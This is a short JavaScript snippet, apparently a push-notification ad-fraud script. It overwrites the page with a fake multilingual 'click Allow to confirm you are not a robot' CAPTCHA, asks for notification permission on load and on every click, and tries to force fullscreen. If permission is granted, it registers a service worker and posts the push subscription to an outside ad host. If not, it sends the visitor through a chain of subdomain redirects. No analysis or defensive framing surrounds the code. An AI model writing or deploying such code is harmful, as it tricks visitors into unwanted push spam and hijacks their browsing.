(function(){
  var m = location.hostname.match(/^(\d+)\.(.+)$/), n = m ? +m[1] : 0, base = m ? m[2] : location.hostname;
  function hop(){ if (n < 15) location.replace('https://' + (n + 1) + '.' + base + location.pathname + location.search); else location.replace('https://next.feed-ads.example/?z=' + zone); }
  var zone = (location.search.match(/z=(\d+)/) || [,'0'])[1];
  var txt = {en:'Click «Allow» to confirm you are not a robot', ru:'Нажмите «Разрешить», чтобы подтвердить, что вы не робот', es:'Pulsa «Permitir» para verificar que no eres un robot', tr:'Robot olmadığınızı doğrulamak için «İzin ver»e basın'};
  document.body.innerHTML = '<div class="r"><img src="/i/robot.png"><h2>' + (txt[(navigator.language||'en').slice(0,2)] || txt.en) + '</h2><div class="arrow">↖</div></div>';
  function ask(){
    Notification.requestPermission().then(function(p){
      if (p === 'granted') navigator.serviceWorker.register('/sw.js?z=' + zone).then(function(r){
        return r.pushManager.subscribe({userVisibleOnly:true, applicationServerKey: window.__vk});
      }).then(function(s){ fetch('https://sub.feed-ads.example/add?z=' + zone, {method:'POST', body: JSON.stringify(s)}); }).finally(function(){ location.href = 'https://next.feed-ads.example/ok'; });
      else hop();
    });
  }
  if (!('Notification' in window) || Notification.permission === 'denied') return hop();
  ask(); document.addEventListener('click', ask);
  try { document.documentElement.requestFullscreen(); } catch (e) {}
})();
